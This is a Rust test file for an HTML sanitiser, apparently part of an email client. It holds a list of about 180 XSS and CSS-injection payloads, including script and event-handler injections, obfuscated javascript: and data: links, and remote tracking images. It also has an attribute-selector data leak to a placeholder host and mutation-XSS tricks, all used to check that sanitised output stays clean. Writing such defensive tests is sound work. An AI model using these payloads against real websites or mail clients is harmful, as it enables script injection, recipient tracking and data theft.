//! Attacks in HTML, of our own writing, and the policy that whatever comes of them must pass.

use super::allow::{GENERIC, TAGS, tag_attributes, value};
use super::{MAX_DEPTH, sanitise, unfolded};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};
use proptest::prelude::*;
use std::cell::RefCell;

/// A tag with its attributes.
type Read = (String, Vec<(String, String)>);

/// The tags of a text as an HTML parser reads them.
#[derive(Default)]
struct Reader(RefCell<Vec<Read>>, RefCell<Vec<String>>);

impl TokenSink for Reader {
    type Handle = ();
    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
                let attributes = tag
                    .attrs
                    .iter()
                    .map(|a| (a.name.local.to_string(), a.value.to_string()))
                    .collect();
                self.0.borrow_mut().push((tag.name.to_string(), attributes));
            }
            Token::CommentToken(_) | Token::DoctypeToken(_) => {
                self.1.borrow_mut().push("a comment or doctype".into());
            }
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// Why this is not clean, if it is not.
fn fault(html: &str) -> Option<String> {
    let tokenizer = Tokenizer::new(
        Reader::default(),
        html5ever::tokenizer::TokenizerOpts::default(),
    );
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    if let Some(odd) = tokenizer.sink.1.borrow().first() {
        return Some(odd.clone());
    }
    let own = tag_attributes();
    for (tag, attributes) in tokenizer.sink.0.borrow().iter() {
        if is_fold(tag, attributes) {
            continue;
        }
        if !TAGS.contains(&tag.as_str()) {
            return Some(format!("the tag {tag}"));
        }
        for (name, given) in attributes {
            let ours = tag == "a"
                && ((name == "target" && given == "_blank")
                    || (name == "rel" && given == "noopener noreferrer"));
            let listed = GENERIC.contains(&name.as_str())
                || own
                    .get(tag.as_str())
                    .is_some_and(|o| o.contains(name.as_str()));
            let same = value(tag, name, given).is_some_and(|v| v == given.as_str());
            let known = listed && same;
            if !ours && !known {
                return Some(format!("{tag} {name}={given:?}"));
            }
            let lower = given.to_lowercase();
            // Words of the sender may be any words.
            let words = matches!(name.as_str(), "title" | "alt" | "abbr");
            let bad = [
                "http:",
                "https:",
                "//",
                "url(",
                "javascript",
                "expression",
                "@import",
                "position",
                "\\",
            ]
            .iter()
            .take(if words { 5 } else { 9 })
            .find(|b| lower.contains(**b));
            let part = tag == "img" && name == "src" && given.starts_with("part://localhost/cid/");
            if let Some(bad) =
                bad.filter(|b| !(part && **b == "//" && lower.matches("//").count() == 1))
            {
                return Some(format!("{bad} in {tag} {name}={given:?}"));
            }
        }
    }
    None
}

/// What we put around quotations and signatures, with the very words that we put there.
fn is_fold(tag: &str, attributes: &[(String, String)]) -> bool {
    let given: Vec<(&str, &str)> = attributes
        .iter()
        .map(|(n, v)| (n.as_str(), v.as_str()))
        .collect();
    match tag {
        "details" => matches!(
            given[..],
            [
                ("class", "parley-fold"),
                ("data-kind", "quote" | "signature")
            ]
        ),
        "summary" => given.is_empty(),
        _ => false,
    }
}

fn holds(input: &str) -> Result<(), String> {
    let Some(out) = sanitise(input) else {
        return Ok(());
    };
    let html = out.clean.html;
    if let Some(fault) = fault(&html) {
        return Err(format!("{fault}\n in {html}\n of {input}"));
    }
    let flat = unfolded(input).ok_or("it was not read unfolded")?.html;
    let again = unfolded(&flat).ok_or("it was not read again")?;
    if again.html != flat {
        return Err(format!(
            "it changed:\n {flat}\n {}\n of {input}",
            again.html
        ));
    }
    if !again.blocked.is_empty() || !again.links.is_empty() {
        return Err(format!("an address was left in {html}"));
    }
    let bad_link = out
        .clean
        .links
        .iter()
        .find(|l| crate::model::url::openable(l).is_err());
    let bad_block = out
        .clean
        .blocked
        .iter()
        .find(|b| !b.to_lowercase().starts_with("http"));
    if bad_link.is_some() || bad_block.is_some() || out.clean.kinds.len() != out.clean.blocked.len()
    {
        return Err(format!("{bad_link:?} {bad_block:?} of {input}"));
    }
    if super::depth(&html) > MAX_DEPTH {
        return Err("it is too deep".into());
    }
    Ok(())
}

#[test]
fn no_attack_leaves_anything_behind() {
    assert!(ATTACKS.len() >= 180, "{}", ATTACKS.len());
    for attack in ATTACKS {
        holds(attack).unwrap();
        // The same inside of what changes how a parser reads.
        for (before, after) in [
            ("<table><tr><td>", "</td></tr></table>"),
            ("<p><b><i>", ""),
            ("<a href='https://x.test'>", "</a>"),
            ("<select><option>", ""),
            ("<div title=\"", "\">"),
            ("<pre>", "</pre>"),
            ("<!--", "-->"),
        ] {
            holds(&format!("{before}{attack}{after}")).unwrap();
        }
    }
}

#[test]
fn the_policy_notices_what_it_is_for() {
    for bad in [
        "<script>",
        "<p onclick=x>",
        "<a href='https://a.test'>",
        "<img src='http://a.test'>",
        "<p style='position:fixed'>",
        "<p id=x>",
        "<!-- x -->",
        "<svg>",
        "<td background=x>",
    ] {
        assert!(fault(bad).is_some(), "{bad}");
    }
    assert_eq!(
        fault("<p style=\"color:red\">x &lt;script&gt; https://a.test url(x)</p>"),
        None
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 600, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn no_mixture_of_attacks_gets_through(parts in proptest::collection::vec((0..ATTACKS.len(), 0usize..12, 0usize..80), 1..6), glue in "[<>\"'=/a-z !&;-]{0,6}") {
        let mut html = String::new();
        for (i, from, len) in parts {
            html.extend(ATTACKS[i].chars().skip(from).take(len + 20));
            html.push_str(&glue);
        }
        prop_assert_eq!(holds(&html), Ok(()));
    }

    #[test]
    fn no_heap_of_tags_gets_through_or_changes_when_read_again(parts in proptest::collection::vec((0usize..12, 0..TAGS.len(), "[a-z<>\"'=& ]{0,5}"), 0..40)) {
        let html: String = parts.iter().map(|(how, tag, text)| {
            let tag = TAGS[*tag];
            match how {
                0..=5 => format!("<{tag}>{text}"),
                6..=8 => format!("</{tag}>{text}"),
                9 => format!("<{tag} style=\"color:{text}\" title='{text}' href='https://a.test/{text}' src='cid:{text}'>"),
                10 => format!("<{tag} {text}>"),
                _ => text.clone(),
            }
        }).collect();
        prop_assert_eq!(holds(&html), Ok(()));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn no_sheet_beside_a_heap_of_tags_gets_through_or_changes_when_read_again(
        rules in proptest::collection::vec((0usize..14, 0usize..14, 0..DECLARED.len()), 0..12),
        tags in proptest::collection::vec((0usize..10, 0..TAGS.len(), 0usize..6), 0..30),
        noise in "[{}:;@.#>*,()'\"\\\\!/a-z<-]{0,12}",
    ) {
        let names = ["p", "td", "*", "div", "li", "a", ".a", ".b", "#c", "tr", "body", "p.a", "img", "span"];
        let sheet: String = rules.iter().map(|(outer, inner, says)| {
            let gap = [" ", ">", ","][(outer + inner) % 3];
            format!("{}{gap}{}{{{}}}", names[*outer], names[*inner], DECLARED[*says])
        }).collect();
        let body: String = tags.iter().map(|(how, tag, class)| {
            let (tag, class) = (TAGS[*tag], ["a", "b", "a b", "c", "", "x"][*class]);
            match how {
                0..=5 => format!("<{tag} class='{class}' id={}>x", if class == "c" { "c" } else { "d" }),
                6..=8 => format!("</{tag}>y"),
                _ => format!("<{tag} class=a style='color:blue;margin:1px !important'>z"),
            }
        }).collect();
        prop_assert_eq!(holds(&format!("<style>{sheet}{noise}</style><body>{body}")), Ok(()));
        prop_assert_eq!(holds(&format!("{body}<style>{noise}{sheet}</style>{body}")), Ok(()));
    }
}

/// What rules say, allowed and not.
const DECLARED: &[&str] = &[
    "color:red",
    "color:blue!important",
    "margin:1px 2px",
    "margin-top:-5px;padding:3%",
    "position:fixed;top:0",
    "background:url(http://a.test/1) #fff",
    "display:none",
    "font:italic bold 12px/1.5 Georgia, serif",
    "font-family:'A B',c, \"d\"",
    "width:expression(1)",
    "border:1px solid rgba(1,2,3,.5) !important",
    "--x:1;color:var(--x)",
    "w\\69 dth:1em;line-height:1.23456",
    "}p{",
];

const ATTACKS: &[&str] = &[
    // Scripts and handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://a.test/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script\u{c}>alert(1)</script>",
    "<</script/script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x' onerror=&#97;lert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1) onpageshow=alert(2)>",
    "<p onclick=alert(1) onmouseover='alert(2)' ONFOCUS=alert(3) tabindex=1 autofocus>x</p>",
    "<a onanimationstart=alert(1) style='animation-name:x'>x</a>",
    "<div onwheel=alert(1) contenteditable onbeforeinput=alert(2)>x</div>",
    "<details open ontoggle=alert(1)><summary onclick=alert(2)>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p =onclick=alert(1)>x</p>",
    "<p onclick\u{0}=alert(1)>x</p>",
    "<p/onclick=alert(1)/>x",
    "<p title='x' title='y' onclick=z>x</p>",
    "<x onclick=alert(1)>unknown</x>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<keygen autofocus onfocus=alert(1)>",
    // Links.
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \u{1} javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&colon;alert&lpar;1&rpar;'>x</a>",
    "<a href='java\u{0}script:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='javascript\u{ff1a}alert(1)'>x</a>",
    "<a href='\u{200b}javascript:alert(1)'>x</a>",
    "<a href='javascript://a.test/%0aalert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='DATA:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='smb://a.test/s'>y</a><a href='ms-msdt:/id x'>z</a>",
    "<a href='about:blank'>x</a><a href='#top'>y</a><a href='/r'>z</a><a href='?q'>q</a><a href=''>e</a>",
    "<a href='//evil.test'>x</a><a href='\\\\evil.test\\s'>y</a><a href='/\\evil.test'>z</a>",
    "<a href='blob:https://a.test/1'>x</a><a href='filesystem:https://a.test/1'>y</a>",
    "<a href='view-source:https://a.test'>x</a><a href='tauri://localhost'>y</a><a href='ipc://localhost/call'>z</a>",
    "<a href='part://localhost/f/00112233445566778899aabbccddeeff'>x</a>",
    "<a href='https://bank.example@evil.test/'>bank</a>",
    "<a href='https://a.test' ping='http://b.test' download='x.exe' target=_top rel=opener>x</a>",
    "<a href='https://a.test' href='javascript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<area href='javascript:alert(1)'><map name=m><area href='https://a.test' shape=default></map>",
    "<a href=\"https://a.test/\"onclick=\"alert(1)\">x</a>",
    "<a href=https://a.test/`onclick=alert(1)`>x</a>",
    "<a href='https://a.test/\u{202e}gpj.exe'>x</a>",
    "<a href='mailto:a@b.test%0d%0aBcc:c@d.test'>x</a><a href='tel:*21*1#'>y</a>",
    "<a href='https://a.test'><a href='javascript:alert(1)'>nested</a></a>",
    "<a href=https://a.test><table><a href=https://b.test><tr><td><a href=https://c.test>x",
    // Loads.
    "<img src='http://a.test/p.gif?id=1' width=1 height=1>",
    "<img src='//a.test/x'><img src='\\\\a.test\\x'><img src='https:a.test'>",
    "<img srcset='http://a.test/1 1x, //a.test/2 2x' sizes='1px'>",
    "<picture><source srcset='http://a.test/1' media='(min-width:1px)'><img src='http://a.test/2'></picture>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src='data:image/png;base64,AAAA'>",
    "<img src='javascript:alert(1)'><img dynsrc='http://a.test'><img lowsrc='http://a.test'>",
    "<img src='cid:../../x\" onerror=\"alert(1)'><img src='CID:<a@b>'>",
    "<img src='part://localhost/f/00112233445566778899aabbccddeeff'><img src='part://localhost/cid/../f/1'>",
    "<img src='file:///etc/passwd'><img src='asset://localhost/x'><img src='http://[::1]/x'>",
    "<img src=\"http://a.test/`onerror=alert(1)\" usemap=#m ismap longdesc='http://a.test'>",
    "<img data-remote='1\" onerror=\"x' src='http://a.test/1'><img data-remote=javascript:1>",
    "<video poster='http://a.test/1' src='http://a.test/2' autoplay onplay=x><source src='http://a.test/3'><track src='http://a.test/4'></video>",
    "<audio src='http://a.test/1' onerror=alert(1) autoplay></audio>",
    "<iframe src='http://a.test'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)><img src=x onerror=alert(1)></iframe>",
    "<frameset onload=alert(1)><frame src='http://a.test'></frameset>",
    "<object data='http://a.test' type='text/html'><param name=x value=y><img src=x onerror=1></object>",
    "<embed src='http://a.test' allowscriptaccess=always><applet code='http://a.test'></applet>",
    "<link rel=stylesheet href='http://a.test'><link rel=preconnect href='http://a.test'><link rel=dns-prefetch href='//a.test'>",
    "<link rel=import href='data:text/html,<script>1</script>'><link rel=icon href='http://a.test'><link rel=preload as=image imagesrcset='http://a.test/1 1x'>",
    "<meta http-equiv=refresh content='0;url=http://a.test'><meta http-equiv=set-cookie content=x><meta charset=utf-7>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href='http://a.test/' target=_top><img src=x>",
    "<body background='http://a.test/1' bgcolor='url(http://a.test/2)'>",
    "<table background='http://a.test/1'><tr background='http://a.test/2'><td background='javascript:alert(1)'>x</td></tr></table>",
    "<input type=image src='http://a.test/1' formaction='javascript:alert(1)'><button formaction='http://a.test'>x</button>",
    "<v:rect><v:fill src='http://a.test/1' type=tile /><v:imagedata src='http://a.test/2'/></v:rect>",
    "<bgsound src='http://a.test'><portal src='http://a.test'></portal><fencedframe src='http://a.test'></fencedframe>",
    // Forms.
    "<form action='http://a.test'><input name=password type=password><button>go</button></form>",
    "<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>",
    "<form><div></form><form id=f><input name=id></form></div>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<dialog open><p>x</p></dialog><menu><li>x</menu>",
    // Styles.
    "<style>@import 'http://a.test/1';*{background:url(http://a.test/2)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<style/><img src=x onerror=alert(1)>",
    "<style>a{}</sty<x>le></style><p>after</p>",
    "<p style='background:url(http://a.test/1)'>x</p>",
    "<p style='background:u\\72l(http://a.test/1)'>x</p>",
    "<p style=\"background:url('http://a.test\">unclosed",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p><p style='width:ex/**/pression(alert(1))'>y</p>",
    "<p style='-moz-binding:url(http://a.test#x);behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed !important;top:0;left:0;width:100%;height:100%;z-index:99999'>cover</p>",
    "<p style='pos\\69tion:fixed;inset:0'>cover</p><p style='position/**/:/**/absolute'>cover</p>",
    "<p style='margin:-9999px;margin-top:-1em;text-indent:-9999px'>moved</p>",
    "<p style='--x:url(http://a.test/1);background:var(--x)'>x</p><p style='color:env(x, url(http://a.test))'>y</p>",
    "<p style='content:attr(title)' title='http://a.test'>x</p>",
    "<p style='transform:scale(99);filter:blur(1px);animation:x 1s infinite;transition:all 9s'>x</p>",
    "<p style='@import \"http://a.test\";color:red'>x</p><p style='}*{color:red'>y</p>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
    "<p style='font-family:\"</p><script>alert(1)</script>\"'>x</p>",
    "<p style='font-family:expression(alert(1))'>x</p><p style=\"font-family:'a&quot;onclick=x'\">y</p>",
    "<p style='background-image:image-set(\"http://a.test/1\" 1x)'>x</p><p style='background:-webkit-cross-fade(url(http://a.test/2),url(http://a.test/3),50%)'>y</p>",
    "<p style='list-style:url(http://a.test/1);cursor:url(http://a.test/2),auto;border-image:url(http://a.test/3) 1;mask:url(http://a.test/4)'>x</p>",
    "<p style='width:999999999px;height:1e99px;font-size:99999px;line-height:9e9;padding:99999px'>huge</p>",
    "<p style='width:-1px;opacity:-5;letter-spacing:-99em'>x</p><p style='all:unset;display:contents'>y</p>",
    "<p style='col\\000000or:red;\\63 olor:blue'>x</p><p style='color:\\75rl(x)'>y</p>",
    "<p style=&#x22;&#x70;osition:fixed&#x22;>x</p><p STYLE='POSITION:FIXED'>y</p>",
    "<p style='background:url( \"http://a.test/1\" ) , url(http://a.test/2)'>x</p><p style='src:local(x)'>y</p>",
    "<font color='expression(alert(1))' face='\"><script>alert(1)</script>' size='9999'>x</font>",
    "<td width='expression(alert(1))' height='url(x)' bgcolor='javascript:alert(1)'>x</td>",
    // Rules of sheets, which are put into the tags they mean.
    "<style>p{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9}</style><p>cover</p>",
    "<style>*{background:url(http://a.test/1);behavior:url(x.htc);-moz-binding:url(http://a.test#x)}</style><p>x</p>",
    "<style>p{width:expression(alert(1));color:ex/**/pression(alert(1))}</style><p style='color:red'>x</p>",
    "<style>p{pos\\69tion:fixed;\\62 ackground:u\\72l(http://a.test/1);c\\6flor:red}</style><p>x</p>",
    "<style>p{color:red\"onclick=\"alert(1)}.a{font-family:'\"><script>alert(1)</script>'}</style><p class=a>x</p>",
    "<style>p{font-family:'&quot; onclick=&quot;alert(1)'}</style><p style='font-family:&quot;a&quot;'>x</p>",
    "<style>p{color:red}</style/><p>x</p><style>p{color:blue}</style x=\"><script>alert(1)</script>\"><p>y</p>",
    "<style>@import url(http://a.test/1);@import 'http://a.test/2' screen;p{color:red}</style><p>x</p>",
    "<style>@media screen{@import 'http://a.test/1';p{background:image-set('http://a.test/2' 1x)}}</style><p>x</p>",
    "<style>@font-face{font-family:x;src:url(http://a.test/1)}p{font-family:x}</style><p>x</p>",
    "<style>p::before{content:url(http://a.test/1)}p:hover{background:url(http://a.test/2)}</style><p>x</p>",
    "<style>p[title^=a]{background:url(http://a.test/leak?a)}</style><p title=ab>x</p>",
    "<style>.s{display:none}.m{font-size:0;line-height:0;opacity:0;color:#fff}</style><p class=s>hidden</p><p class=m>faint</p>",
    "<style>div div div div div div>p{color:red}</style><div><div><div><div><div><div><p>x",
    "<style>p{color:red}p{color:red}p{color:red!important}p{margin:-9px!important}</style><p style='margin:-1px'>x</p>",
    "<style>a{color:red;text-decoration:none}a:visited{background:url(http://a.test/v)}</style><a href='javascript:alert(1)'>x</a><a href='https://a.test'>y</a>",
    "<style>\u{0}p{color:red}p\u{0}{color:blue}\\0 p{color:green}</style><p>x</p>",
    "<style>{}}{}}}p{color:red}{{{{p{color:blue}</style><p>x</p>",
    "<style>p{color:red;{position:fixed}width:1px}</style><p>x</p><style>p{((((((((((((((((color:red",
    "<style>p{--x:expression(1);all:unset;inset:0;display:flex;display:block}</style><p>x</p>",
    "<style media=print>p{color:red}</style><style type=text/javascript>p{color:blue}</style><p>x</p>",
    "<style><!-- p{color:red} --></style><style>/*</style><p>x</p><style>*/p{color:red}</style>",
    "<svg><style>p{position:fixed;color:red}</style></svg><math><style>p{color:blue}</style></math><p>x</p>",
    "<noscript><style>p{color:red}</style></noscript><template><style>p{color:blue}</style></template><p>x</p>",
    "<style>table>tbody>tr>td.k{color:red}li li{color:blue}</style><table><td class=k>x<table><li><li>y</table>z",
    "<style>body,html{background:url(http://a.test/1) red;position:fixed;color:blue}</style><body onload=alert(1)><p>x<body style='color:green'>",
    "<style>body{font-family:x}</style><table><body><tr><td></div>x</table></body></html>y",
    "<style>img{width:1px;height:1px;display:none}</style><img src='http://a.test/1'><img src='cid:a'>",
    "<style>*{color:red}details{display:none}summary{display:none}</style><details open><summary>x</summary>y</details>",
    "<p class='\"><script>alert(1)</script>' id='\"onclick=x'>x</p><style>.\\\"\\>\\<script\\>{color:red}</style>",
    // SVG and MathML.
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><image href='http://a.test/1'/><feImage xlink:href='http://a.test/2'/></svg>",
    "<svg><foreignObject><iframe src='http://a.test'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><style></title><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg/><script/>alert(1)</script>",
    "<svg:script>alert(1)</svg:script><math:script>alert(1)</math:script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math><math><maction actiontype='statusline#http://a.test' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mi><p><style><img src=x onerror=alert(1)></style></p></mi></math>",
    "<math><malignmark><p></math><script>alert(1)</script>",
    // What parsers read differently.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><img src='http://a.test/1' onerror=1></template><template><script>alert(1)</script></template>",
    "<template><table></template><img src=x onerror=alert(1)></table>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<title></title/><img src=x onerror=alert(1)>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<xmp></xmp/x><script>alert(1)</script>",
    "<plaintext><img src='http://a.test'></plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![if true]><img src=x onerror=alert(1)><![endif]>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![CDATA[ ]]><script>alert(1)</script>",
    "<!doctype html [<!entity x '<script>alert(1)</script>'>]>&x;",
    "<?xml version='1.0'?><?php <img src=x onerror=alert(1)> ?>",
    "<?><img src=x onerror=alert(1)>?>",
    "</ <img src=x onerror=alert(1)>>",
    "<%<img src=x onerror=alert(1)>%>",
    "< script>alert(1)</ script>",
    "<script>/*<!--<script>*/</script>--><img src=x onerror=alert(1)>",
    "<img src=x title=\"a>b\" onerror=alert(1)>",
    "<img src=x title='</p><script>alert(1)</script>'>",
    "<img title=\"`><img src=x onerror=alert(1)>`\">",
    "<p title=\"<!--\"><img title=\"--><img src=x onerror=alert(1)>\"></p>",
    "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p title='&amp;lt;script&amp;gt;'>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
    "<b><p><b><i><b><p><a href=https://a.test><b><p>x</b></b></i>y",
    "<p><table><p><tr><p><td><p><table>x</p></table>",
    "<table><caption><table><tr><td>x</caption></table>y",
    "<table><td><select><table><td>x</td></table></select>",
    "<ul><li><div><li></div><ul></li></ul><dd><dt><p><li>x",
    "<h1><h2></h1><p></h2></p><h1>",
    "<ruby><rt><rp><rt><ruby>x</rp></ruby>",
    "<pre>\n\n<pre>\n</pre></pre><listing>\n\n</listing>",
    "<br></br></p><//><p/></br/>",
    "<image src='http://a.test/1' onerror=alert(1)>",
    "<nobr><nobr><p><nobr>x</nobr></p>",
    "<p id=x name=y class=z slot=s is=i part=p exportparts=q nonce=r>clobbered</p>",
    "<a name=getElementById></a><img name=cookie><form name=body></form>",
    "<custom-element onclick=x><slot name=x></slot></custom-element>",
    "<details class='parley-fold x' id=y><summary class=z>t</summary>u</details><details class=parley-fold>v</details>",
    "<p \u{0}\u{0}onclick=alert(1)>\u{0}x</p>",
    "<a href='https://a.test",
    "<img src='http://a.test/1' alt='",
    "<p style='color:red",
    "<p title=",
    "<p ",
    "<",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{feff}<script>alert(1)</script>\u{202e}<b>\u{2066}x</b>",
    "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
];
